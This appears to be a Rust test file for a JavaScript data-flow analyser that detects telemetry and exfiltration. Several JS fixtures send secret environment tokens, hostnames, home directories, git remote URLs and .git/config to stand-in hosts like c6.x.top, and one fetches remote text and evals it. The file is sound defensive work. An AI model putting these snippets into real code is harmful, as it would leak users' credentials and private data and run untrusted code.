fn request_wrappers_name_the_address_each_call_reaches() {
    let f = run(r#"const BASE = "https://api.acme-tools.dev";
        async function api(path, body) { return fetch(BASE + path, { method: "POST", body: JSON.stringify(body) }); }
        async function api2(path, body) { const u = new URL(path, "https://in.acme-tools.dev/v2/"); return fetch(u, { method: "POST", body }); }
        async function api3(path, body) { return fetch(`${BASE}/${path}`, { method: "POST", body }); }
        api("/api/telemetry", { event: "start" }); api2("/otlp/v1/metrics", "x"); api3("usage-stats", "y"); api("/api/chat", {});"#);
    let urls: Vec<&str> = f
        .endpoints
        .iter()
        .filter_map(|e| e.url.as_deref())
        .collect();
    for want in [
        "https://api.acme-tools.dev/api/chat",
        "https://api.acme-tools.dev/api/telemetry",
        "https://api.acme-tools.dev/usage-stats",
        "https://in.acme-tools.dev/otlp/v1/metrics",
    ] {
        assert!(urls.contains(&want), "{want} not in {urls:?}");
    }
    let f = run(
        r#"function label(path) { return "see " + path; } console.log(label("/api/telemetry"));
        const BASE = "https://api.acme-tools.dev"; function get(path) { return fetch(BASE + "/v1/items"); } get("/api/telemetry");"#,
    );
    assert!(
        f.endpoints
            .iter()
            .all(|e| e.url.as_deref() != Some("https://api.acme-tools.dev/api/telemetry")),
        "{:#?}",
        f.endpoints
    );
}

/// A request to this machine (a local gateway's health check, a dev server) sends nothing
/// off it; a private network's address is another machine.
#[test]
fn requests_to_this_machine_send_nothing_off_it() {
    for url in [
        "http://127.0.0.1:8080/health",
        "http://localhost/x",
        "https://127.77.0.1/portal",
    ] {
        let f = run(&format!(
            "fetch('{url}', {{ method: 'POST', body: require('os').hostname() }});"
        ));
        assert!(f.flows.is_empty(), "{url}: {:#?}", f.flows);
    }
    let f = run("require('https').request({ host: '127.77.0.1', port: 443, method: 'POST', headers: { 'x-cwd': process.cwd() } }).end();");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    let f = run("fetch('http://10.0.0.5/x', { method: 'POST', body: require('os').hostname() });");
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
}

/// A request built on the platform's own address (`KUBERNETES_SERVICE_HOST`: the cluster's
/// API server) goes to the platform the process runs on; a host from another variable is
/// anyone's.
#[test]
fn requests_to_the_platform_it_runs_on_send_nothing_off_it() {
    for src in [
        "fetch(`https://${process.env.KUBERNETES_SERVICE_HOST}:${process.env.KUBERNETES_SERVICE_PORT}/api/v1/namespaces/default/pods/${require('os').hostname()}`);",
        "fetch('http://' + process.env['GCE_METADATA_HOST'] + '/computeMetadata/v1/x/' + require('os').hostname());",
    ] {
        let f = run(src);
        assert!(f.flows.is_empty(), "{src}: {:#?}", f.flows);
    }
    let f = run("fetch(`https://${process.env.COLLECTOR_HOST}/pods/${require('os').hostname()}`);");
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
}

/// A named part of a container (`ctx.apiURL`, `settings.get("url")`, `auth.getHeaders(cfg)`)
/// carries the container's data but not the places it was told to work in: a settings store
/// opened in the working directory does not put the directory into the URL read out of it
/// (amp's `n.get("url")` over a store made with `process.cwd()`). A part named for a place
/// (`ctx.home`, `get("workspaceRoot")`), a secret or a host name kept in the container, and
/// the container sent whole, still flow.
#[test]
fn a_named_part_of_a_container_does_not_carry_where_it_was_opened() {
    let program = |sends: &str| {
        format!(
            r#"const os = require("os");
            async function openSettings(cwd) {{ return loadStore({{ cwd, file: ".acme/settings.json" }}); }}
            async function context() {{
              const n = await openSettings(process.cwd());
              const s = await n.get("url");
              return {{ apiURL: s, settings: n, home: os.homedir(), host: os.hostname(), token: process.env.ACME_SECRET_TOKEN }};
            }}
            async function main() {{ const k = await context(); {sends} }}"#
        )
    };
    let f = run(&program(
        r#"await fetch(`${k.apiURL}/api/threads`, { method: "POST", body: "{}" });
           const key = await k.settings.get("apiKey");
           await fetch("https://api.acme-tools.dev/v1/x", { method: "POST", body: JSON.stringify({ key }) });
           const auth = await k.auth.getAuthHeaders(k.settings);
           await fetch("https://api.acme-tools.dev/v1/y", { method: "POST", headers: auth, body: k["apiURL"] });
           const draft = await k.settings.consumeDraft();
           await fetch("https://api.acme-tools.dev/v1/z", { method: "POST", body: JSON.stringify({ draft }) });"#,
    ));
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    // Also once the object has fields of its own (a write to one makes its reads by field).
    let f = run(&program(
        r#"k.checked = true; await fetch(`${k.apiURL}/api/threads`, { method: "POST", body: "{}" });"#,
    ));
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    let sent = |sends: &str| {
        let f = run(&program(sends));
        f.flows.iter().fold(Kinds::EMPTY, |k, fl| k.union(fl.kinds))
    };
    let k = sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: k.home });"#);
    assert!(k.contains(DataKind::HomeDir), "{k:?}");
    let k = sent(
        r#"await fetch("https://c6.x.top/a", { method: "POST", body: await k.settings.get("workspaceRoot") });"#,
    );
    assert!(k.contains(DataKind::WorkingDirectory), "{k:?}");
    let k =
        sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: [k.home].join(",") });"#);
    assert!(k.contains(DataKind::HomeDir), "{k:?}");
    let k =
        sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: k.host + k.token });"#);
    assert!(
        k.contains(DataKind::Hostname) && k.contains(DataKind::SecretEnv),
        "{k:?}"
    );
    let k =
        sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: JSON.stringify(k) });"#);
    assert!(
        k.contains(DataKind::WorkingDirectory) && k.contains(DataKind::HomeDir),
        "{k:?}"
    );
}

/// A secret written into a URL before its host (`https://x-access-token:${token}@host/`) is
/// basic auth: to the service it belongs to, credential use; to a host it does not belong
/// to, exfiltration to that host. Values after the host stay what the URL sends.
#[test]
fn a_secret_in_a_urls_user_information_is_basic_auth() {
    let f = run(r#"const t = process.env.GITHUB_TOKEN;
        fetch(`https://x-access-token:${t}@api.github.com/user`);
        fetch("https://oauth2:" + process.env.GITLAB_TOKEN + "@gitlab.com/api/v4/user");"#);
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 2, "{:#?}", f.credential_uses);
    assert!(
        f.credential_uses
            .iter()
            .all(|u| u.position.contains("basic auth") && u.host.is_some()),
        "{:#?}",
        f.credential_uses
    );
    let f = run(
        r#"fetch(`https://u:${process.env.GITHUB_TOKEN}@c6.x.top/collect`);
        fetch(`https://api.github.com/users/${process.env.GITHUB_TOKEN}`);"#,
    );
    assert_eq!(f.flows.len(), 2, "{:#?}", f.flows);
    assert!(
        f.flows
            .iter()
            .all(|fl| fl.kinds.contains(DataKind::SecretEnv)),
        "{:#?}",
        f.flows
    );
    assert!(
        f.flows.iter().any(|fl| fl.endpoints == ["c6.x.top"]),
        "{:#?}",
        f.flows
    );
    assert!(f.credential_uses.is_empty(), "{:#?}", f.credential_uses);
}

/// A send through a helper called before an opt-out check and again after it leaves before
/// the user's choice is read (`sent_before_check`); called only after the check, it does not.
#[test]
fn a_send_before_the_opt_out_check_is_marked() {
    let program = |main: &str| {
        format!(
            "const os = require('os');
            function track(e) {{ fetch('https://t.x.top/e', {{ method: 'POST', body: os.hostname() + e }}); }}
            function main() {{ {main} }}
            main();"
        )
    };
    let f = run(&program(
        "track('start'); if (process.env.DO_NOT_TRACK) return; track('run');",
    ));
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(f.flows[0].sent_before_check, "{:#?}", f.flows);
    let f = run(&program(
        "if (process.env.DO_NOT_TRACK) return; track('start'); track('run');",
    ));
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(!f.flows[0].sent_before_check, "{:#?}", f.flows);
}

#[test]
fn value_under_an_account_attribute_key_is_an_account_id() {
    // OpenTelemetry-instrumented CLIs put the signed-in account beside the e-mail.
    let f = run("function attrs(cfg) {
          const account = cfg.oauthAccount;
          return { 'user.id': cfg.userID, 'user.account_uuid': account.accountUuid,
                   [semconv.ATTR_USER_ID]: cfg.userID };
        }");
    let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
    assert_eq!(sinks.len(), 3, "{:#?}", f.flows);
    assert!(f.flows.iter().all(
        |fl| fl.kinds.contains(DataKind::AccountId) && fl.sink == SinkKind::TelemetryAttribute
    ));
    assert!(
        sinks.contains(&"telemetry attribute user.account_uuid"),
        "{sinks:?}"
    );
    assert!(f.sources.iter().any(|s| s.kind == DataKind::AccountId));
    // Set one by one on the attributes object, as claude-code 1.0 does.
    let f = run("function attrs(cfg) {
          const a = cfg.oauthAccount?.accountUuid, e = cfg.oauthAccount?.emailAddress;
          const I = { 'user.id': cfg.userID };
          if (a) I['user.account_uuid'] = a;
          if (e) I['user.email'] = e;
          I['session.id'] = cfg.sessionId;
          return I;
        }");
    let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
    assert_eq!(sinks.len(), 3, "{:#?}", f.flows);
    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Email)));
    // A constant id, or a `userId` of an ordinary object, is no one's account.
    let neg = run("const a = { 'user.id': 'anonymous' };
        const row = { userId: req.params.id, accountId: row.id };");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
}

#[test]
fn the_repository_address_sent_is_reported() {
    let f = run(r#"const { execSync } = require("child_process");
        const fs = require("fs");
        const remote = execSync("git remote get-url origin").toString().trim();
        const config = fs.readFileSync(process.cwd() + "/.git/config", "utf8");
        fetch("https://t.example.top/r", { method: "POST", body: JSON.stringify({ remote }) });
        fetch("https://t.example.top/c", { method: "POST", body: config });"#);
    assert_eq!(f.flows.len(), 2, "{:#?}", f.flows);
    assert!(
        f.flows
            .iter()
            .all(|fl| fl.kinds.contains(DataKind::RepositoryUrl)),
        "{:#?}",
        f.flows
    );
    // The repository's root or commit, or adding a remote, reads no address.
    let neg = run(r#"const { execSync } = require("child_process");
        const root = execSync("git rev-parse --show-toplevel").toString();
        const head = execSync("git rev-parse HEAD").toString();
        execSync("git remote add upstream https://example.com/x.git");
        fetch("https://t.example.top/r", { method: "POST", body: JSON.stringify({ root, head }) });"#);
    assert!(
        neg.flows
            .iter()
            .all(|fl| !fl.kinds.contains(DataKind::RepositoryUrl)),
        "{:#?}",
        neg.flows
    );
}

#[test]
fn wasm_glue_running_its_own_strings_is_not_network_code() {
    // Emscripten-style glue: typed-array views over the module's memory, strings written into
    // and read out of that heap, the module's own `EM_ASM` snippets evaluated.
    let glue = r#"var wasmMemory, HEAP8, HEAPU8, HEAP32;
        function updateMemoryViews() { var b = wasmMemory.buffer; HEAP8 = new Int8Array(b); HEAPU8 = new Uint8Array(b); HEAP32 = new Int32Array(b); }
        function UTF8ToString(ptr) { var end = ptr; while (HEAPU8[end]) ++end; return new TextDecoder().decode(HEAPU8.subarray(ptr, end)); }
        function stringToUTF8(str, ptr) { for (var i = 0; i < str.length; i++) HEAPU8[ptr + i] = str.charCodeAt(i); HEAPU8[ptr + str.length] = 0; }
        function _tzset_js(p) { stringToUTF8(Intl.DateTimeFormat().resolvedOptions().timeZone, p); }
        function _emscripten_run_script(ptr) { eval(UTF8ToString(ptr)); }
        function preload(path, at) { return fetch(path).then(r => r.arrayBuffer()).then(b => { HEAP8.set(new Int8Array(b), at); }); }
        function openUrl(ptr) { return fetch("https://cdn.example.org/" + UTF8ToString(ptr)); }
        fetch("app.wasm").then(r => r.arrayBuffer()).then(bytes => WebAssembly.instantiate(bytes, {})).then(out => { wasmMemory = out.instance.exports.memory; updateMemoryViews(); });"#;
    let f = run(glue);
    assert!(
        f.dynamic_code.iter().all(|d| !d.from_network),
        "{:#?}",
        f.dynamic_code
    );
    assert!(
        f.flows
            .iter()
            .all(|fl| !fl.kinds.contains(DataKind::TimeZone)),
        "{:#?}",
        f.flows
    );
    // Network text run as code is still reported, and so is a typed array filled with
    // identity that is not a view of a heap.
    let f = run(
        r#"fetch("https://x.example.top/p").then(r => r.text()).then(t => eval(t));
        const buf = new Uint8Array(64); const h = require("os").hostname();
        for (let i = 0; i < h.length; i++) buf[i] = h.charCodeAt(i);
        fetch("https://x.example.top/u", { method: "POST", body: buf });"#,
    );
    assert!(
        f.dynamic_code.iter().any(|d| d.from_network),
        "{:#?}",
        f.dynamic_code
    );
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        f.flows
    );
}
